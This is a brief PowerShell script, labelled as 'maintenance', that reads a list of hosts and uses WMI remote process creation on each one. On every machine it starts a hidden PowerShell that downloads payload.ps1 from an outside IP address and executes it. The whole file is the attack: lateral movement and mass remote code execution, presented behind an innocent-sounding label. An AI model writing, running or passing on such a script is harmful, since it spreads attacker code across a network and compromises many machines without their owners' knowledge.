# maintenance 2599 v2
$targets = Get-Content C:\Windows\Temp\hosts.txt
foreach ($t in $targets) {
  Invoke-WmiMethod -ComputerName $t -Class Win32_Process -Name Create -ArgumentList "powershell -nop -w hidden -c iex(iwr http://203.0.113.200/payload.ps1)"
}
